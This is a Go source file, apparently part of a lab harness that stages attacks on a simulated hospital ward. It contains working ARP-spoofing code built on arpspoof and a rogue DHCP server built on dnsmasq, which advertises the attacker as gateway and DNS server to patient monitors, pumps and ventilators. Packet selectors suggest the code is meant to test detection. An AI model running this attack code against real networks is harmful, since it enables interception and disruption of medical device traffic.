package attack

import (
	"context"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"time"

	"github.com/cordonhq/cordon/internal/lab"
)

// arpRestores bounds how long arpspoof may take to say the truth again.
const arpRestores = 15 * time.Second

// spoofARP stands between a monitor and its central station: both are told that
// the other is at the attacker's card. Frames are handed on, so that readings
// still arrive.
func spoofARP(ctx context.Context, s *stage) error {
	monitor, central := device("monitor-1"), device("central-1")
	for name, value := range map[string]string{
		"net/ipv4/ip_forward": "1", "net/ipv4/conf/all/send_redirects": "0", "net/ipv4/conf/eth0/send_redirects": "0",
	} {
		if err := s.setting(s.at, name, value); err != nil {
			return err
		}
	}
	packets := []Selector{
		s.arp(),
		// arpspoof has the kernel look for the two by a datagram that nobody
		// takes.
		s.to(monitor.Name, "udp", 67), s.to(monitor.Name, "icmp", 0), s.to(central.Name, "udp", 67), s.to(central.Name, "icmp", 0),
		{DstMAC: s.attacker.MAC, Src: host(monitor.IP()), Dst: host(central.IP())},
		{DstMAC: s.attacker.MAC, Src: host(central.IP()), Dst: host(monitor.IP())},
		{SrcMAC: s.attacker.MAC, Src: host(monitor.IP()), Dst: host(central.IP())},
		{SrcMAC: s.attacker.MAC, Src: host(central.IP()), Dst: host(monitor.IP())},
	}
	return s.step(ctx, "stand between monitor and central station", packets, func(ctx context.Context) (string, error) {
		cmd, err := s.command(ctx, "arpspoof", "-i", "eth0", "-t", monitor.IP().String(), "-r", central.IP().String())
		if err != nil {
			return "", err
		}
		run, cancel := s.bounded(ctx)
		defer cancel()
		cmd = rebind(run, cmd)
		if err := s.home.Start(cmd); err != nil {
			return "", err
		}
		fooled := false
		for run.Err() == nil && !fooled {
			fooled = s.believes(run, monitor, central) && s.believes(run, central, monitor)
			pause(run, 200*time.Millisecond)
		}
		<-run.Done()
		_ = cmd.Wait() // it was told to end, and says the truth first
		switch {
		case !fooled:
			return "", errors.New("they do not believe it")
		case s.believes(ctx, monitor, central):
			return "both believe it, and the truth did not come back by itself", nil
		}
		return "both believed it", nil
	})
}

// rebind makes the same command end with another context, with time to tidy up.
func rebind(ctx context.Context, cmd *exec.Cmd) *exec.Cmd {
	again := exec.CommandContext(ctx, cmd.Path, cmd.Args[1:]...)
	again.Dir, again.Env, again.SysProcAttr = cmd.Dir, cmd.Env, cmd.SysProcAttr
	again.Cancel = func() error { return again.Process.Signal(os.Interrupt) }
	again.WaitDelay = arpRestores
	return again
}

// believes reports whether one device takes the attacker's card for another's.
func (s *stage) believes(ctx context.Context, who, of *lab.Device) bool {
	out, err := s.toolAt(context.WithoutCancel(ctx), who.Namespace(), "", "ip", "neigh", "show", of.IP().String())
	return err == nil && strings.Contains(out, s.attacker.MAC.String())
}

// dhcpVictims ask for their address again during the attack, as after a restart.
var dhcpVictims = []string{"pump-3", "monitor-2", "vent-1"}

// spoofDHCP answers the ward's DHCP questions before the clinic's server does,
// and names itself as router and DNS server. The devices that ask do not use
// what they get, so that care goes on.
func spoofDHCP(ctx context.Context, s *stage) error {
	config, err := s.file("dnsmasq.conf", "keep-in-foreground", "user=root", "port=0", "interface=eth0", "bind-interfaces", "no-ping", "no-hosts", "no-resolv",
		"log-facility=-", "dhcp-authoritative", "pid-file=", "dhcp-leasefile="+filepath.Join(s.dir, "leases"),
		fmt.Sprintf("dhcp-range=%s,%s,255.255.255.0,2m", lab.Ward.Address(200), lab.Ward.Address(220)),
		fmt.Sprintf("dhcp-option=3,%s", s.attacker.IP()), fmt.Sprintf("dhcp-option=6,%s", s.attacker.IP()))
	if err != nil {
		return err
	}
	heard := filepath.Join(s.dir, "heard")
	script, err := s.file("udhcpc.sh", "#!/bin/sh", `[ "$1" = bound ] && echo "$serverid $router" >> `+heard, "exit 0")
	if err != nil {
		return err
	}
	if err := os.Chmod(script, 0o700); err != nil {
		return err
	}
	packets := []Selector{
		{SrcMAC: s.attacker.MAC, Transport: "udp", Port: 68},
		{DstMAC: s.attacker.MAC, Transport: "udp", Port: 67},
	}
	return s.step(ctx, "answer DHCP questions of the ward", packets, func(ctx context.Context) (string, error) {
		run, cancel := s.bounded(ctx)
		defer cancel()
		rogue, err := s.command(run, "dnsmasq", "--conf-file="+config)
		if err != nil {
			return "", err
		}
		if err := s.home.Start(rogue); err != nil {
			return "", err
		}
		pause(run, 300*time.Millisecond)
		asked := 0
		for run.Err() == nil {
			d := device(dhcpVictims[asked%len(dhcpVictims)])
			if err := d.AskDHCP(run, script); err == nil {
				asked++
			}
			pause(run, s.jitter(s.duration/6))
		}
		_ = rogue.Wait() // it was told to end
		out, _ := os.ReadFile(heard)
		fooled := strings.Count(string(out), s.attacker.IP().String()+" ")
		detail := fmt.Sprintf("%d asked, %d believed it", asked, fooled)
		if fooled == 0 {
			return detail, errors.New("nobody believed it")
		}
		return detail, nil
	})
}
